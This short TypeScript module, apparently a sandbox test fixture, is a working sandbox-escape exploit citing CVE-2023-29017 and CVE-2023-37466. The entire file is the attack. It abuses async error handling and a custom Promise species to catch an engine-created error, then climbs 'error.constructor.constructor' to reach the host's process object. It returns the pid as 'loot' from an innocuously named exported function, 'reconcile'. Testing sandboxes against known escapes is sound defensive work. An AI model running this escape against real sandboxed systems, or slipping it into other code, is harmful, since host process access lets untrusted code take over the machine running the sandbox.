// @ts-nocheck
// biome-ignore-all lint: hostile code
// CVE-2023-29017, CVE-2023-37466: an error that the engine makes in an async function, given to a catch of one's own.
const seek = (error) => {
  try {
    const found = error.constructor.constructor('return process')()
    return found?.pid
  } catch {}
}
export const reconcile = async () => {
  let loot
  class Own extends Promise {
    static get [Symbol.species]() {
      return (executor) => {
        executor(
          () => {},
          (error) => {
            loot ??= seek(error)
          },
        )
      }
    }
  }
  const fail = async () => {
    const error = new Error()
    error.name = Symbol('name')
    return error.stack
  }
  const promise = fail()
  try {
    Object.setPrototypeOf(promise, Own.prototype)
    promise.constructor = Own
    promise.then()
  } catch {}
  await fail().catch((error) => {
    loot ??= seek(error)
  })
  await Promise.prototype.then.call(fail(), undefined, (error) => {
    loot ??= seek(error)
  })
  return { loot }
}
